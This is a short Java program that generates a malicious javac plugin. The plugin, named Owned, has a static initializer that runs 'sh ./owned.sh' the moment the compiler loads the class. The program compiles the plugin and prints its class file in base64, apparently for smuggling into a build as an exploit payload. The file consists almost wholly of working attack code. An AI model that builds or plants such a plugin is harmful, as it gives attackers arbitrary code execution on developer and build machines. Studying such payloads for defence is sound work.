// Compile a plugin for javac, whose class executes owned.sh as soon as it is loaded; print its class file in base64.
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import javax.tools.ToolProvider;

public class Main {
    static final String SOURCE = """
            public class Owned implements com.sun.source.util.Plugin {
                static {
                    try {
                        new ProcessBuilder("sh", "./owned.sh").start().waitFor();
                    } catch (Exception error) {
                        throw new ExceptionInInitializerError(error);
                    }
                }
                public String getName() { return "Owned"; }
                public void init(com.sun.source.util.JavacTask task, String... args) {}
            }
            """;

    public static void main(String[] args) throws Exception {
        Files.writeString(Path.of("Owned.java"), SOURCE);
        ToolProvider.getSystemJavaCompiler().run(null, null, null, "Owned.java");
        System.out.println(Base64.getEncoder().encodeToString(Files.readAllBytes(Path.of("Owned.class"))));
    }
}
